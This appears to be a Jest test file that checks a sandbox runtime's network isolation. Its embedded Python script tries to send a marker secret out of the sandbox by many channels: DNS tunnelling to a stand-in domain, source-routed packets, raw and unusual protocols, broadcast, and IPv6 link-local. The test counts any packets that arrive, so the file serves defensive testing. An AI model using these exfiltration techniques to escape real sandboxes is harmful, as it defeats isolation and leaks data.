import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { jest } from '@jest/globals';
import type { SandboxPlace, SandboxSpec } from '../../runtime/driver.ts';
import { LocalHost, onHost, shell } from '../runtime/local-host.ts';
import { OutsideNetwork } from '../runtime/outside-network.ts';
import { until } from '../support/until.ts';

jest.setTimeout(300_000);

/**
 * A sandbox without internet access sends everything that could carry data out, to the resolver in its resolv.conf and
 * to another machine. Packets that arrive there are counted.
 */
const octet = 104 + (process.pid % 36) * 4;
const machine = `203.0.113.${octet + 2}`;
const machineIpv6 = '2001:db8::103';
const kinds = ['tcp', 'udp', 'icmp', 'other', 'ipv6'] as const;
const none = { tcp: 0, udp: 0, icmp: 0, other: 0, ipv6: 0 };
let outside: OutsideNetwork;
let host: LocalHost;

beforeAll(async () => {
  outside = new OutsideNetwork(octet);
  onHost('ip', 'route', 'add', machine, 'via', outside.far);
  onHost('ip', '-n', outside.namespace, 'address', 'add', machine, 'dev', 'lo');
  // Packets that neighbours on a link exchange automatically do not come from a sandbox.
  const rules = `table inet arrived {
    ${kinds.map((kind) => `counter from_${kind} {}`).join('\n')}
    chain arriving {
      type filter hook prerouting priority raw
      iifname != "up" accept
      icmpv6 type != echo-request accept
      meta nfproto ipv6 counter name from_ipv6 accept
      meta l4proto tcp counter name from_tcp accept
      meta l4proto udp counter name from_udp accept
      meta l4proto icmp counter name from_icmp accept
      counter name from_other
    }
  }`;
  execFileSync(...outside.command('nft', '-f', '-'), { input: rules });
  host = await LocalHost.open({ dns: [outside.far], warmPoolSize: 1 });
}, 300_000);

afterAll(() => host.closeEmpty(), 300_000);
afterAll(async () => {
  outside.remove();
}, 300_000);

/** Packets that arrived since the last call. */
function arrived(): Record<(typeof kinds)[number], number> {
  const [command, words] = outside.command('nft', '-j', 'reset', 'counters');
  return { ...none, ...counted(onHost(command, ...words)) };
}

/** Packets by the names of their counters, as nft prints them. */
function counted(json: string): Record<string, number> {
  const { nftables } = JSON.parse(json);
  const counters: { name: string; packets: number }[] = nftables.flatMap(
    (each: { counter?: object }) => each.counter ?? [],
  );
  return Object.fromEntries(counters.map(({ name, packets }) => [name.slice('from_'.length), packets]));
}

/** Sends everything to every address, and prints the number of attempts. */
const sendAll = () => `import socket, struct
data = b"what-nobody-may-learn"
query = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + bytes([len(data)]) + data + b"\\x06tunnel\\x07example\\0" + struct.pack(">2H", 16, 1)
echo = struct.pack(">BBHHH", 8, 0, 0, 0, 1) + data
tried = 0
def attempt(family, kind, protocol, address, what, prepare=None, flags=0):
  global tried
  tried += 1
  try:
    with socket.socket(family, kind, protocol) as s:
      s.settimeout(0.1)
      if prepare: prepare(s)
      if flags or kind == socket.SOCK_DGRAM: s.sendto(what, flags, address)
      else:
        s.connect(address)
        s.sendall(what)
  except OSError: pass
gateway = socket.inet_aton("${host.driver.subnet.replace(/\d+\/\d+$/, '1')}")
broadcast = lambda s: s.setsockopt(1, 6, 1)
for to in ("${outside.far}", "${machine}"):
  for port in (53, 80, 123, 443, 853, 5353):
    attempt(2, 1, 0, (to, port), struct.pack(">H", len(query)) + query)
    attempt(2, 2, 0, (to, port), query)
  routed = b"\\x83\\x07\\x04" + socket.inet_aton(to) + b"\\0"
  attempt(2, 2, 0, (socket.inet_ntoa(gateway), 53), query, lambda s: s.setsockopt(0, 4, routed))
  attempt(2, 1, 0, (to, 443), data, flags=0x20000000)
  attempt(2, 2, 1, (to, 0), echo)
  for kind, protocol in ((2, 136), (1, 132), (5, 132), (6, 33), (1, 262)): attempt(2, kind, protocol, (to, 53), data)
  attempt(10, 2, 0, ("::ffff:" + to, 53), query)
  attempt(10, 1, 0, ("::ffff:" + to, 443), data)
for to in ("${machineIpv6}", "ff02::1", "ff02::fb", "fe80::1"):
  scope = socket.if_nametoindex("eth0") if to.startswith("f") else 0
  for kind, protocol in ((1, 0), (2, 0), (2, 58)): attempt(10, kind, protocol, (to, 53, 0, scope), data)
for to in ("255.255.255.255", "224.0.0.1", "224.0.0.251", "203.0.113.255"): attempt(2, 2, 0, (to, 5353), query, broadcast)
tried += 1
try: socket.getaddrinfo("what-nobody-may-learn.tunnel.example", 80)
except OSError: pass
print(tried)`;

async function attack(place: SandboxPlace, spec: SandboxSpec): Promise<void> {
  arrived();
  const script = `cat > /tmp/send.py <<'END'\n${sendAll()}\nEND\nexport RES_OPTIONS='timeout:1 attempts:1'; python3 /tmp/send.py`;
  expect(await shell(place, spec, script)).toEqual({ exitCode: 0, output: '61' });
}

test('not one packet leaves without internet access, from the pool and after a start on its disk', async () => {
  await until(() => host.driver.poolReady > 0, 60_000);
  const spec = host.spec({ storageGb: 10 });
  const place = await host.driver.create(spec);
  expect(place.from).toBe('pool');
  await attack(place, spec);
  expect(arrived()).toEqual(none);
  await host.driver.pause(spec.sandboxId);
  await attack(await host.driver.resume(spec), spec);
  expect(arrived()).toEqual(none);
  await host.driver.stop(spec.sandboxId);
  const again = await host.driver.resume(spec);
  expect(again.from).toBe('cold');
  await attack(again, spec);
  expect(arrived()).toEqual(none);
});

test('what is sent to the internet by one that may reach it arrives, so what does not is seen', async () => {
  const spec = host.spec({ allowInternetAccess: true });
  await attack(await host.driver.create(spec), spec);
  const { tcp, udp, icmp, ipv6 } = arrived();
  expect([tcp > 5, udp > 5, icmp, ipv6]).toEqual([true, true, 1, 0]);
});

test('IPv6 packets do not leave the link, even for a process with all privileges over the sandbox’s network', async () => {
  const spec = host.spec({ allowInternetAccess: true });
  const { address } = await host.driver.create(spec);
  const [{ dev: link }] = JSON.parse(onHost('ip', '-json', 'route', 'get', address));
  const pids = readFileSync(path.join(host.dataDir, 'oci/sandboxes', spec.sandboxId, 'pids'), 'latin1');
  const [, , init] = pids.trim().split(' ');
  const inside = (...words: string[]) => onHost('nsenter', `--net=/proc/${init}/ns/net`, ...words);
  const table = `ipv6_${process.pid}`;
  // Before and after the firewall's first chain.
  const watch = (when: string, priority: number) => `counter from_${when} {}
    chain ${when} { type filter hook prerouting priority ${priority}; iifname "${link}" meta nfproto ipv6 counter name from_${when}; }
`;
  execFileSync('nft', ['-f', '-'], {
    input: `table inet ${table} { ${watch('link', -400)} ${watch('firewall', -200)} }`,
  });
  try {
    const hardware = readFileSync(`/sys/class/net/${link}/address`, 'latin1').trim();
    const send = `echo 0 > /proc/sys/net/ipv6/conf/eth0/disable_ipv6; ip -6 address add fd00::2/64 dev eth0 nodad
      ip -6 neighbor add fd00::1 lladdr ${hardware} dev eth0; ip -6 route add default via fd00::1 dev eth0`;
    inside('sh', '-ec', send);
    const packets = `const s = require('dgram').createSocket('udp6'); s.send('x', 53, '${machineIpv6}', () => s.close())`;
    inside(process.execPath, '-e', packets);
    const seen = () => counted(onHost('nft', '-j', 'list', 'counters', 'table', 'inet', table));
    await until(() => seen().link! > 0);
    expect(seen().firewall).toBe(0);
  } finally {
    onHost('nft', 'delete', 'table', 'inet', table);
  }
});
